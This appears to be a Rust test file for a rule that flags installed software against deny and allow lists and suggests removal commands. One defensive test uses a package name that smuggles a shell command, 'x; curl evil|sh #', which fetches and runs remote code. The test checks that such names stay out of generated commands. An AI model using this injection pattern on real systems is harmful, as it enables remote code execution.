//! What generous judges of installed software let through, and this one does not.
//!
//! Touches nothing. Must never test how a list of packages is read: that is the sensor's.

use super::*;
use crate::facts::{Facts, PackageScope, PackageSource};
use crate::finding::Outcome::{Fail, NotApplicable, Pass, Unknown};
use crate::limits::{GLOBS_MAX, LIST_ITEMS_MAX};
use crate::rules::pattern::Pattern;
use crate::rules::testing::{approved, case, check};

fn package(source: PackageSource, name: &str, version: &str) -> Package {
    Package {
        source,
        name: name.to_owned(),
        architecture: "amd64".to_owned(),
        version: version.to_owned(),
        vendor: String::new(),
        origin: None,
        state: PackageState::Installed,
        scope: PackageScope::Machine,
    }
}

fn deb(name: &str) -> Package {
    package(PackageSource::Dpkg, name, "1.2-3")
}

fn line(name: &str) -> Listed {
    Listed {
        source: None,
        name: Pattern::parse(name).expect("a pattern"),
        version: None,
    }
}

fn list(lines: Vec<Listed>) -> List {
    List::new(lines).expect("a list")
}

fn denying(names: &[&str]) -> Parameters {
    Parameters {
        deny: list(names.iter().map(|name| line(name)).collect()),
        allow: List::default(),
    }
}

fn inventory(packages: Vec<Package>) -> Software {
    let count = u32::try_from(packages.len()).expect("few packages");
    Software {
        sources: vec![
            (PackageSource::Dpkg, Reading::Known(count)),
            (PackageSource::Rpm, Reading::Absent),
        ],
        packages,
    }
}

fn examine_with(parameters: &Parameters, software: Reading<Software>) -> Found {
    let facts = Facts {
        software,
        ..Facts::not_asked()
    };
    parameters.examine(&case(&facts, &approved()))
}

fn examine(parameters: &Parameters, packages: Vec<Package>) -> Found {
    examine_with(parameters, Reading::Known(inventory(packages)))
}

#[test]
fn software_that_nobody_forbids_passes() {
    let found = examine(&denying(&["dropbox*"]), vec![deb("bash"), deb("curl")]);
    check(
        &found,
        Pass,
        "None of the 2 installed packages is against the policy.",
    );
    assert_eq!(found.evidence[1].value, "not on this machine");
}

#[test]
fn forbidden_software_is_named_with_its_remedy() {
    let packages = vec![deb("bash"), deb("Dropbox"), deb("teamviewer-host")];
    let found = examine(&denying(&["dropbox*", "teamviewer*"]), packages);
    check(
        &found,
        Fail,
        "Dropbox 1.2-3 (deb) is installed, and the policy forbids it. One more like it: teamviewer-host.",
    );
    check(&found, Fail, "sudo apt remove Dropbox");
    assert_eq!(found.evidence[0].source, "deb: Dropbox");
    assert_eq!(found.evidence[0].value, "1.2-3, denied by dropbox*");
}

#[test]
fn a_half_installed_package_counts_as_installed() {
    let broken = Package {
        state: PackageState::Broken,
        ..deb("dropbox")
    };
    let found = examine(&denying(&["dropbox"]), vec![broken]);
    check(&found, Fail, "dropbox 1.2-3");
    assert!(found.evidence[0].value.contains("not fully installed"));
}

#[test]
fn a_line_can_ask_for_a_source_and_a_version() {
    let parameters = Parameters {
        deny: list(vec![Listed {
            source: Some(PackageSource::Snap),
            version: Some(Pattern::parse("4.*").expect("a pattern")),
            ..line("slack")
        }]),
        allow: List::default(),
    };
    let snap = |version| package(PackageSource::Snap, "slack", version);
    check(
        &examine(&parameters, vec![snap("4.1")]),
        Fail,
        "sudo snap remove slack",
    );
    check(&examine(&parameters, vec![snap("5.0")]), Pass, "None of");
    check(&examine(&parameters, vec![deb("slack")]), Pass, "None of");
}

#[test]
fn with_an_allow_list_everything_else_fails_and_a_denial_goes_first() {
    let parameters = Parameters {
        deny: list(vec![line("dropbox")]),
        allow: list(vec![line("bash"), line("lib*")]),
    };
    check(
        &examine(&parameters, vec![deb("bash"), deb("libc6")]),
        Pass,
        "None of",
    );
    let found = examine(&parameters, vec![deb("nmap"), deb("bash"), deb("dropbox")]);
    check(
        &found,
        Fail,
        "dropbox 1.2-3 (deb) is installed, and the policy forbids it. One more like it: nmap.",
    );
    let found = examine(&parameters, vec![deb("nmap")]);
    check(&found, Fail, "the policy does not list it as permitted");
}

#[test]
fn a_source_that_could_not_be_read_leaves_it_unknown_unless_something_was_found() {
    let with_hole = |packages| {
        let mut software = inventory(packages);
        let why = Why::NotPermitted("/var/lib/flatpak".to_owned());
        software
            .sources
            .push((PackageSource::Flatpak, Reading::Unknown(why)));
        Reading::Known(software)
    };
    let parameters = denying(&["dropbox"]);
    let found = examine_with(&parameters, with_hole(vec![deb("bash")]));
    check(
        &found,
        Unknown,
        "Flatpak: no permission to read it (/var/lib/flatpak)",
    );
    let found = examine_with(&parameters, with_hole(vec![deb("dropbox")]));
    check(&found, Fail, "dropbox");
}

#[test]
fn an_empty_inventory_is_no_evidence() {
    let parameters = denying(&["dropbox"]);
    check(
        &examine(&parameters, vec![]),
        Unknown,
        "No list of installed software",
    );
    let bare = Reading::Known(Software::default());
    check(
        &examine_with(&parameters, bare),
        Unknown,
        "No list of installed software",
    );
    check(
        &examine_with(&parameters, Reading::Absent),
        Unknown,
        "No list of installed software",
    );
    let why = Reading::Unknown(Why::Unreadable("status line 7".to_owned()));
    check(&examine_with(&parameters, why), Unknown, "status line 7");
}

#[test]
fn a_policy_without_lists_asks_nothing() {
    let found = examine(&Parameters::default(), vec![deb("dropbox")]);
    check(&found, NotApplicable, "lists no software");
}

#[test]
fn a_strangers_name_is_never_put_into_a_command() {
    let evil = deb("x; curl evil|sh #");
    let found = examine(&denying(&["x*"]), vec![evil]);
    check(
        &found,
        Fail,
        "Remove x; curl evil|sh #, or ask your administrator.",
    );
    let dashed = examine(&denying(&["-*"]), vec![deb("-y")]);
    check(&dashed, Fail, "Remove -y, or ask");
}

#[test]
fn a_name_is_found_however_its_line_begins() {
    let parameters = denying(&["*torrent*", "Ärger*", "μtorrent*", "dropbox*", "*"]);
    let first_line = |name: &str| {
        let found = examine(&parameters, vec![deb(name)]);
        found.evidence[0].value.clone()
    };
    assert_eq!(first_line("qBittorrent"), "1.2-3, denied by *torrent*");
    assert_eq!(first_line("ÄRGER-2"), "1.2-3, denied by Ärger*");
    assert_eq!(first_line("ΜTorrent"), "1.2-3, denied by μtorrent*");
    assert_eq!(first_line("Dropbox-beta"), "1.2-3, denied by dropbox*");
    assert_eq!(first_line("bash"), "1.2-3, denied by *");
}

#[test]
fn a_list_out_of_bounds_is_refused() {
    let many = vec![line("a"); LIST_ITEMS_MAX + 1];
    assert_eq!(
        List::new(many),
        Err(InvalidList::TooMany(LIST_ITEMS_MAX + 1))
    );
    let globs = vec![line("a*"); GLOBS_MAX + 1];
    assert_eq!(
        List::new(globs),
        Err(InvalidList::TooManyGlobs(GLOBS_MAX + 1))
    );
}
